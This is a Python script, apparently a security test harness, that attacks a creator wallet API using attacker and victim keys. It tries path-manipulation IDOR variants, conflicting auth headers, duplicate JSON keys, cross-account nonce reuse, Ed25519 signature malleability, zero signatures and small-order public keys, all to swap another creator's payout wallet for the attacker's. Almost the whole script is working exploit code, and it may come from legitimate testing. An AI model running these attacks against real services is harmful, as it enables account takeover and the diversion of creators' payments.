from h import *; from db import q
ids=json.load(open('ids.json')); keys=json.load(open('keys.json'))
V,Ak=ids['vic1'],ids['att1']; kv,ka=keys['vic1'],keys['att1']
W=kp('att_w'); VW=kp('vic_w'); w=str(W.pubkey()); vw=str(VW.pubkey())
print('1 cross PUT by number', *req('PUT',f'/v1/creators/{V}/wallet',ka,{'wallet':w}))
pub=q('reader','select public_id from media.creators where id=%s',V)[0][0]
for f in [pub, f'0{V}', f'{V:019d}', f'%30{V}', f'{V}%20', f'{V}%00', f'{Ak}/../{V}', f'{Ak}%2f..%2f{V}', f'./{V}', f'٧', f'+{V}', f'{V}.0']:
    show('1b', f, *req('PUT',f'/v1/creators/{f}/wallet',ka,{'wallet':w}))
show('1c challenge for victim by att key', *req('POST',f'/v1/creators/{V}/wallet/challenge',ka,{'wallet':w}))
# 2 headers
for hs in [[('Authorization','Bearer '+ka),('Authorization','Bearer '+kv)],[('Authorization','Bearer '+kv),('Authorization','Bearer '+ka)],[('Authorization','Bearer '+ka),('X-API-Key',kv)],[('X-API-Key',ka),('X-API-Key',kv)],[('Authorization','Bearer '+ka+', Bearer '+kv)],[('Authorization','bearer  '+ka)]]:
    r=c.request('PUT',BASE+f'/v1/creators/{Ak}/wallet',headers=hs+[('Content-Type','application/json')],content='{"wallet":"x"}')
    show('2',[h[0] for h in hs],r.status_code,r.text[:150])
# 3 body tricks: duplicate keys
for raw in ['{"wallet":"%s","wallet":"%s"}'%(vw,w), '{"wallet":"%s","Wallet":"x"}'%w,'{"wallet":["%s"]}'%w,'{"wallet":"%s\\n"}'%w,'{"wallet":"%s "}'%w]:
    show('3', raw[:20], *req('PUT',f'/v1/creators/{V}/wallet',ka,raw=raw,headers={'Content-Type':'application/json'}))
# 4 proof attacks on att1's own creator with vw (no key of vic)
s,ch=req('POST',f'/v1/creators/{Ak}/wallet/challenge',ka,{'wallet':vw}); show(s,ch)
msg=ch['message']; n=ch['nonce']
show('4a wrong signer', *req('PUT',f'/v1/creators/{Ak}/wallet',ka,{'wallet':vw,'proof':{'nonce':n,'signature':sign(W,msg)}}))
show('4b good sig wrong wallet', *req('PUT',f'/v1/creators/{Ak}/wallet',ka,{'wallet':w,'proof':{'nonce':n,'signature':sign(VW,msg)}}))
show('4c victim uses nonce of att', *req('PUT',f'/v1/creators/{V}/wallet',kv,{'wallet':vw,'proof':{'nonce':n,'signature':sign(VW,msg)}}))
show('4d admin key uses it', *req('PUT',f'/v1/creators/{Ak}/wallet',ADMIN,{'wallet':vw,'proof':{'nonce':n,'signature':sign(VW,msg)}}))
# malleable S+L
L=2**252+27742317777372353535851937790883648493
s0=base58.b58decode(sign(VW,msg)); S=int.from_bytes(s0[32:],'little')+L
mal=base58.b58encode(s0[:32]+S.to_bytes(32,'little')).decode()
show('4e malleable', *req('PUT',f'/v1/creators/{Ak}/wallet',ka,{'wallet':vw,'proof':{'nonce':n,'signature':mal}}))
show('4f zero sig', *req('PUT',f'/v1/creators/{Ak}/wallet',ka,{'wallet':vw,'proof':{'nonce':n,'signature':'1'*64}}))
# 5 small order wallets
small=[bytes(32), bytes([1])+bytes(31), bytes.fromhex('ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f'), bytes.fromhex('c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a'), bytes.fromhex('26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05')]
for pk in small:
    a=base58.b58encode(pk).decode()
    s,ch=req('POST',f'/v1/creators/{Ak}/wallet/challenge',ka,{'wallet':a}); show('5 chal',a,s,ch if s!=201 else '')
    if s!=201: continue
    res=[]
    for R in small+[bytes([1])+bytes(31)]:
        sig=base58.b58encode(R+bytes(32)).decode()
        s,d=req('PUT',f'/v1/creators/{Ak}/wallet',ka,{'wallet':a,'proof':{'nonce':ch['nonce'],'signature':sig}}); res.append((s,d.get('detail',d)))
        if s==200: break
    show('5 put',a,res)
